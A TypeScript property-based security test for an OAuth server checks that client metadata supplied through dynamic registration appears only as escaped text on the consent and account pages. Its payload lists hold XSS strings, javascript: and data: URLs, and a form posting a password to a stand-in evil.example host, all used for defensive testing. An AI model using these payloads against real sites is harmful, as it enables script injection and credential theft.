/**
 * What a registering client writes, users read (SECURITY-TESTS Z-03): fast-check generates client
 * metadata (name and display URIs) from a corpus of XSS and URL payloads mixed with random text,
 * registers it over RFC 7591, and renders it where users see it: the consent page and the
 * connected agents page. Every registration is a 201 or an RFC 7591 error; every page shows the
 * payloads only as text: no markup of theirs, no event handler, no link or image that is not
 * https. Fixed seed, so CI sees the same cases every time.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import * as client from 'openid-client';
import { browse, type CookieJar, csrfOf, decodeHtml, followOnIssuer, postForm, signInToAccount } from './helpers/browserless.ts';
import { createScope, createUser, type TestUser } from './helpers/factories.ts';
import { startServer, type TestServer } from './helpers/server.ts';

const REDIRECT_URI = 'http://127.0.0.1/cb';

/** Markup and URL payloads; each is distinctive enough that our own templates never contain it. */
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  "'><iframe srcdoc='<script>alert(4)</script>'>",
  '</title><a href="javascript:alert(5)">x</a>',
  '{{constructor.constructor("alert(6)")()}}',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/steal"><input name=password>',
  '\u202eevil\u202c',
  '<!--',
  ']]><x>',
];
const URL_PAYLOADS = [
  'javascript:alert(7)',
  'JaVaScRiPt:alert(8)',
  ' javascript:alert(9)',
  'data:text/html,<script>alert(10)</script>',
  'vbscript:msgbox(11)',
  'http://evil.example/logo.png',
  'https://evil.example/"><script>alert(12)</script>',
  "https://evil.example/' onerror='alert(13)",
  'https://evil.example/logo.png',
  '//evil.example/logo.png',
];

const textWithPayload = fc
  .tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 10 }))
  .map(([before, payload, after]) => ({ text: `${before}${payload}${after}`, payload }));
const displayUri = fc.oneof(
  { weight: 2, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.constantFrom(...URL_PAYLOADS) },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.webUrl({ validSchemes: ['https'] }),
      fc.string({ maxLength: 20 }).map((s) => `https://agent.example/${s}`),
    ),
  },
);

/** Attributes whose value a browser loads or navigates to: each must be ours or https. */
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'srcset', 'poster', 'data', 'xlink:href']);
const TAG = /<([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g;
const ATTRIBUTE = /([^\s=>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g;
/** The page's elements as a browser's tokenizer sees them: tag name, attribute names and decoded values. */
function elementsOf(html: string): { tag: string; attributes: [string, string][] }[] {
  return [...html.matchAll(TAG)].map((m) => ({
    tag: m[1]!.toLowerCase(),
    attributes: [...(m[2] ?? '').matchAll(ATTRIBUTE)].map((a) => [a[1]!.toLowerCase(), decodeHtml((a[2] ?? '').replace(/^["']|["']$/g, ''))]),
  }));
}

function assertOnlyText(html: string, issuer: string, baselineScripts: number, payload: string, what: string) {
  assert.ok(!html.includes(payload), `${what}: the payload ${JSON.stringify(payload)} appears as markup`);
  const elements = elementsOf(html);
  assert.equal(elements.filter((e) => e.tag === 'script').length, baselineScripts, `${what}: no script of theirs`);
  for (const { tag, attributes } of elements) {
    assert.ok(!['iframe', 'object', 'embed', 'base', 'frame'].includes(tag), `${what}: a <${tag}>`);
    for (const [name, value] of attributes) {
      assert.ok(!name.startsWith('on'), `${what}: an event handler ${name} on <${tag}>`);
      if (tag === 'meta' && name === 'http-equiv') assert.notEqual(value.toLowerCase(), 'refresh', `${what}: a refresh`);
      if (!URL_ATTRIBUTES.has(name)) continue;
      const v = value.trim();
      const ours = v.startsWith('/') ? !v.startsWith('//') : v.startsWith('#') || v.startsWith('?') || v.startsWith(`${issuer}/`);
      assert.ok(ours || v.startsWith('https://'), `${what}: <${tag} ${name}="${value}">`);
    }
  }
}

describe('client metadata is shown to users as text only (SECURITY-TESTS Z-03)', () => {
  let server: TestServer;
  let user: TestUser;
  let jar: CookieJar;
  let token: string;
  let baseline: { consent: number; account: number };

  before(async () => {
    // This file registers many clients from one address; the per-IP limit has its own test.
    server = await startServer({ REGISTRATION_RATE_LIMIT: '1000' });
    await createScope(server, 'notes:read', 'Read your notes');
    user = await createUser(server);
    const created = await server.cli(['registration-tokens', 'create', '--json']);
    token = (JSON.parse(created.stdout) as { token: string }).token;
    ({ jar } = await signInToAccount(server, user));
    const benign = await connect({ client_name: 'Plain agent' });
    assert.ok('consent' in benign, JSON.stringify(benign));
    baseline = { consent: benign.consent.match(/<script\b/gi)?.length ?? 0, account: benign.account.match(/<script\b/gi)?.length ?? 0 };
  });
  after(() => server?.stop());

  /** Registers a public client with this metadata, consents to it, and returns both pages (or the refusal). */
  async function connect(metadata: Record<string, unknown>): Promise<{ consent: string; account: string } | { refused: number; error: string }> {
    const res = await fetch(`${server.issuer}/reg`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({
        redirect_uris: [REDIRECT_URI],
        token_endpoint_auth_method: 'none',
        grant_types: ['authorization_code'],
        response_types: ['code'],
        scope: 'notes:read',
        ...metadata,
      }),
    });
    const registered = (await res.json()) as Record<string, unknown>;
    if (res.status !== 201) return { refused: res.status, error: String(registered.error) };
    const url = new URL(`${server.issuer}/auth`);
    url.search = new URLSearchParams({
      client_id: String(registered.client_id),
      response_type: 'code',
      redirect_uri: REDIRECT_URI,
      scope: 'notes:read',
      code_challenge: await client.calculatePKCECodeChallenge(client.randomPKCECodeVerifier()),
      code_challenge_method: 'S256',
    }).toString();
    const page = await followOnIssuer(jar, server.issuer, await browse(jar, url));
    const consent = await page.text();
    assert.equal(page.status, 200, consent);
    const action = /<form method="post" action="([^"]+)"/.exec(consent)?.[1];
    assert.ok(action, 'a consent form');
    const answered = await followOnIssuer(
      jar,
      server.issuer,
      await postForm(jar, new URL(decodeHtml(action), server.issuer), { csrf: csrfOf(consent), scope: 'notes:read', decision: 'allow' }),
    );
    assert.match(answered.headers.get('location') ?? '', /^http:\/\/127\.0\.0\.1\/cb\?code=/);
    const account = await browse(jar, `${server.issuer}/account`);
    return { consent, account: await account.text() };
  }

  it('registers or refuses with RFC 7591 codes, and renders every payload as text on the consent and connected agents pages', async () => {
    let rendered = 0;
    await fc.assert(
      fc.asyncProperty(textWithPayload, displayUri, displayUri, displayUri, displayUri, async (name, logo, home, policy, tos) => {
        const metadata = { client_name: name.text, logo_uri: logo, client_uri: home, policy_uri: policy, tos_uri: tos };
        const what = JSON.stringify(metadata);
        const answer = await connect(metadata);
        if ('refused' in answer) {
          assert.equal(answer.refused, 400, what);
          assert.ok(['invalid_client_metadata', 'invalid_redirect_uri'].includes(answer.error), `${what}: ${answer.error}`);
          return;
        }
        rendered++;
        assertOnlyText(answer.consent, server.issuer, baseline.consent, name.payload, `consent page for ${what}`);
        assertOnlyText(answer.account, server.issuer, baseline.account, name.payload, `connected agents page for ${what}`);
      }),
      { numRuns: 60, seed: 20261201, endOnFailure: true, includeErrorInReport: true },
    );
    assert.ok(rendered > 0, 'some clients were registered and rendered');
  });
});
